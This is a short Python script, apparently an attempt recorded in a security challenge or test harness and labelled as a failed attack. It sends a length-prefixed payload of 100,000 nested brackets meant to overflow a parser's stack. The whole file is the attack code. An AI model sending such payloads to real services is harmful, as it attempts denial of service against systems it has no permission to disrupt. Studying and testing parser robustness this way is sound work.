# /// attack
# verdict = ["failed"]
# ///
"""A hundred thousand brackets, to overflow the reader's stack."""

import struct

from tools import send_raw


def answer():
    body = b"[" * 100_000 + b"]" * 100_000
    send_raw(struct.pack(">I", len(body)) + body)
    return 0
